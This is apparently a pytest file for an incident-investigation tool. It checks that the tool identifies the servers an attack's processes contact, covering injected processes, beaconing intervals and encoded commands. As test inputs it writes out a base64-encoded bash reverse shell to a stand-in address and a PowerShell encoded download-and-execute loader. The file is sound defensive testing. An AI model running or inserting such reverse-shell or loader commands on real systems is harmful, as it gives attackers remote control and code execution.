"""Servers of an attack: chosen among all that its processes talk to, named in commands."""

from __future__ import annotations

import base64

import pytest
from tests.investigate.evidence import Evidence

from yoban.investigate.facts.network import facts, named
from yoban.investigate.scene import scene

PAYLOAD = "C:\\Users\\ana\\Downloads\\invoice.exe"


def payload() -> Evidence:
    """A payload that ran and was found."""
    evidence = Evidence()
    row = evidence.start(10, PAYLOAD, 100)
    evidence.found(row, attack=["T1204.002"], tactics=["execution"])
    return evidence


def servers(evidence: Evidence) -> list[str]:
    """Values of the facts."""
    return [fact.value for fact in facts(scene(evidence.group()))]


def test_the_payloads_server_is_named_also_when_it_is_private() -> None:
    evidence = payload()
    for at in (11, 71, 131):
        evidence.connect(at, 100, "172.20.4.9", 8443)
    assert servers(evidence) == ["172.20.4.9:8443"]


def test_infrastructure_and_makers_of_systems_are_left_out() -> None:
    evidence = payload()
    evidence.connect(11, 100, "10.9.0.2", 88)
    evidence.connect(11, 100, "127.0.0.1", 4444)
    evidence.connect(11, 100, "13.107.4.50", 443, dst_endpoint__hostname="ctldl.windowsupdate.com")
    assert servers(evidence) == []


def test_of_one_address_the_port_used_most() -> None:
    evidence = payload()
    evidence.connect(11, 100, "198.51.100.9", 80)
    for at in (12, 72, 132):
        evidence.connect(at, 100, "198.51.100.9", 443)
    assert servers(evidence) == ["198.51.100.9:443"]


def test_other_programs_do_not_count() -> None:
    evidence = payload()
    evidence.start(12, "C:\\Program Files\\Mail\\mail.exe", 200)
    evidence.connect(13, 200, "198.51.100.1", 443)
    assert servers(evidence) == []


def test_an_injected_program_counts_from_the_injection_on() -> None:
    evidence = payload()
    evidence.connect(15, 300, "203.0.113.1", 443)
    row = evidence.event(
        20, (1007, 4), process__pid=100, process__uid="{g-100}", process__file__path=PAYLOAD
    )
    evidence.found(
        row,
        attack=["T1055"],
        tactics=["defense-evasion"],
        TargetImage="C:\\Windows\\System32\\svchost.exe",
        TargetProcessId="300",
        TargetProcessGuid="{G-300}",
    )
    evidence.connect(25, 300, "203.0.113.7", 443)
    assert servers(evidence) == ["203.0.113.7:443"]


def test_a_shell_that_is_coded_names_its_server() -> None:
    shell = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.5/9001 0>&1").decode()
    assert list(named(f"bash -c {{echo,{shell}}}|{{base64,-d}}|{{bash,-i}}")) == [
        ("203.0.113.5", "9001", True)
    ]


def test_a_coded_loader_names_its_server() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.net/a')"
    coded = base64.b64encode(script.encode("utf-16-le")).decode()
    assert ("cdn.example.net", "443", True) in list(named(f"powershell -enc {coded}"))


@pytest.mark.parametrize(
    "line", ["curl https://example.com/x", "nc", "echo /dev/tcp", "A" * 70_000]
)
def test_plain_commands_name_none(line: str) -> None:
    assert list(named(line)) == []


def test_even_distances_are_told() -> None:
    evidence = payload()
    for at in range(11, 700, 60):
        evidence.connect(at, 100, "198.51.100.9", 443)
    (fact,) = facts(scene(evidence.group()))
    assert fact.details["how"] == "every 60 s"
